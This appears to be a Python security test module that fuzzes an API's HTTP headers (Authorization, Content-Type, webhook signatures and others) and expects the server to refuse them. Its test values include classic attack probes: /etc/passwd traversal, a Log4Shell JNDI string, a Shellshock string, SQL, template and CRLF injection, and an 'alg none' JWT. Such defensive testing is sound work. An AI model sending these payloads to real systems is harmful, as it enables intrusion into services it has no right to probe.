"""Headers that the product reads, with what should not be in them."""

from tests.attacks.corpus import CLOSED, HOST, HTTPS, JSON, KEY, PAYOUTS, REFUSED, Attack, answered, either, request
from tests.attacks.corpus.framing import ORDER

LIST = PAYOUTS + b"?user_id=1&page_size=1"
PASSES = either(REFUSED, CLOSED, 200)
TEXTS = (
    *(b"", b" ", b"\t", b"x", b"\xff\xfe", b"\xd0\x9a\xd0\xbb\xd1\x8e\xd1\x87", b"%00", b"'", b'"', b"a" * 8_000),
    *(b"../../etc/passwd", b"${jndi:ldap://elsewhere/x}", b"{{7*7}}", b"' OR 1=1--", b"<script>", b"\xe2\x80\xae"),
    *(b"1,2", b"a;b", b"=", b"(){ :; }; echo", b"%0d%0aSet-Cookie: a=b", b"\x7f" * 0 + b"~" * 300),
)

AUTHORIZATION = [
    Attack(f"Authorization: {value.decode('latin-1')[:50]}", request(b"GET", LIST, b"Authorization: %s\r\n" % value, begin=HOST + HTTPS), answered(401, 400, 431, CLOSED))
    for value in (
        *TEXTS,
        *(b"Bearer", b"Bearer ", b"Bearer  ", b"bearer x", b"Bearer pk_", b"Bearer pk_x_", b"Bearer pk_x_y", b"Bearer pk__"),
        *(b"Bearer pk_%00_x", b"Bearer pk_" + b"a" * 5_000 + b"_b", b"Bearer pk_" + b"_" * 500, b"Basic YTpi", b"Basic \xff"),
        *(b"Digest username=\"a\"", b"Bearer a b", b"Bearer null", b"Bearer \xd0\x9a", b"Token @KEY@", b"@KEY@"),
        *(b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", b"Bearer ' OR '1'='1", b"Bearer @KEY@x", b"Bearer x@KEY@"),
    )
] + [
    Attack("two keys", request(b"GET", LIST, b"Authorization: Bearer x\r\n"), either(REFUSED, CLOSED)),
    Attack("the key in the query", request(b"GET", LIST + b"&authorization=Bearer%20@KEY@&api_key=@KEY@", begin=HOST + HTTPS), answered(401)),
    Attack("the key in a cookie", request(b"GET", LIST, b"Cookie: authorization=@KEY@\r\n", begin=HOST + HTTPS), answered(401)),
]  # fmt: skip

OTHERS = [
    *(
        Attack(f"{name.decode()}: {value.decode('latin-1')[:40]}", request(b"GET", LIST, b"%s: %s\r\n" % (name, value)), PASSES)
        for name in (
            *(b"X-Request-ID", b"Accept-Language", b"If-None-Match", b"Accept", b"Cookie", b"X-Forwarded-For"),
            *(b"Range", b"Referer", b"Origin", b"User-Agent", b"HX-Request", b"X-CSRFToken"),
        )
        for value in TEXTS
    ),
    *(
        Attack(f"Accept-Language: {value.decode('latin-1')[:40]}", request(b"GET", b"/admin/login/", b"Accept-Language: %s\r\n" % value, begin=HOST + HTTPS), either(REFUSED, 200))
        for value in (*TEXTS, b"en;q=1e400", b"ru;q=-1", b"en," * 4_000, b"../../ru", b"zh-" + b"a" * 500, b"*")
    ),
    *(
        Attack(f"Idempotency-Key: {value.decode('latin-1')[:40]}", request(b"POST", PAYOUTS, JSON + b"Idempotency-Key: %s\r\n" % value, ORDER), either(REFUSED, CLOSED, 200, 201))
        for value in (*TEXTS, b"k" * 255, b"k" * 256, b"a\x7fb")
    ),
    *(
        Attack(f"If-Match: {value.decode('latin-1')[:40]}", request(b"PATCH", PAYOUTS + b"999999999/", JSON + b"If-Match: %s\r\n" % value, b'{"status": "cancelled"}'), either(REFUSED, CLOSED, 412))
        for value in (*TEXTS, b'"0"', b'"-1"', b'"9999999999"', b'W/"1"', b'"1", "2"', b'"\xd9\xa1"')
    ),
    *(
        Attack(f"Content-Type: {value.decode('latin-1')[:40]}", request(b"POST", PAYOUTS, b"Content-Type: %s\r\n" % value, ORDER), either(REFUSED, CLOSED, 200, 201))
        for value in (
            *TEXTS,
            *(b"text/plain", b"application/json;charset=utf-7", b"application/json; charset=\xff", b"application/jsonx"),
            *(b"application/x-www-form-urlencoded", b"multipart/form-data", b"multipart/form-data; boundary=", b"multipart/form-data; boundary=" + b"b" * 5_000),
            *(b"application/json, text/plain", b"application/xml", b"application/json;charset=" + b"x" * 3_000),
        )
    ),
    *(
        Attack(f"Content-Encoding: {value.decode()}", request(b"POST", PAYOUTS, JSON + b"Content-Encoding: %s\r\n" % value, b"\x1f\x8b\x08\x00"), REFUSED)
        for value in (b"gzip", b"deflate", b"br", b"zstd", b"gzip, gzip")
    ),
    *(
        Attack(f"webhook-{name}: {value.decode('latin-1')[:30]}", request(b"POST", b"/api/webhooks/provider/", JSON + _signed, b"{}", begin=HOST + HTTPS), either(REFUSED, CLOSED))
        for name in ("id", "timestamp", "signature")
        for value in (*TEXTS, b"1" * 400, b"-1", b"1e400", b"v1,", b"v1," + b"A" * 5_000, b"v1a,x v1,y", b"v1,\xff")
        for _signed in (
            b"".join(
                b"webhook-%s: %s\r\n" % (each.encode(), value if each == name else usual)
                for each, usual in (("id", b"msg_1"), ("timestamp", b"1768392000"), ("signature", b"v1,K5oZfzN95Z9UVu1EsfQmfVNQhnkZ2pj9o9NDN/H/pI4="))
            ),
        )
    ),
    Attack("plain HTTP with a key", request(b"GET", LIST, begin=HOST + KEY), answered(403)),
    Attack("plain HTTP with a key, by POST", request(b"POST", PAYOUTS, JSON, ORDER, begin=HOST + KEY), answered(403)),
    Attack("https claimed twice", request(b"GET", LIST, b"X-Forwarded-Proto: http\r\n"), either(REFUSED, 200)),
]  # fmt: skip

REQUESTS = [*AUTHORIZATION, *OTHERS]
